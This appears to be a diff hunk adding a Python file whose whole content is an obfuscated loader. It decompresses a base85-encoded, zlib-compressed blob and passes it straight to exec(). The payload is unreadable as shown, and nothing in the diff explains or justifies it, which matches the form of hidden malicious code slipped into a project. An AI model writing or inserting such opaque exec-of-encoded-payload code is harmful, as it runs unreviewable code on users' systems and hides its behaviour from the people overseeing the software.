@@ -1,0 +1,2 @@
+import zlib,base64
+exec(zlib.decompress(base64.b85decode("c-mc2%WA_g5WM><7N6wCRh`g7aPcqn(qjlhN!GE5y$X`tP)h&3D@&vgfw7jEotf2|>1thoNr#~*iWByL?|M}HiOHUDtRdJ7lCR-r=wxqITL7Q3EZ>gSq0cZF$^`!cWW!+S3<Ej@<5>|MxS8Pa0U84OAi00h2{vf<INF&4bkNAAhGs!}>%a%i*;v|XI-_80L=wrdf=5{YOBK&?nCZe&iM3lK+9b5fY`(1b_lD7W&vSIJ%qx8yODrnYowLM*RR?~aL~8f}Q+NhrxZj||Fgwc4Pl;FmE%_gxUXJ!GHnOSm4km3#<e{$4P!MI@N)&HDTe<DOAl8TLA(y4(_hKdSa9`i6C9Gk$uVLM6o~tTqn;w)RJ)u(2bx<l5os=q*RkAI<0iI=|Uj")))
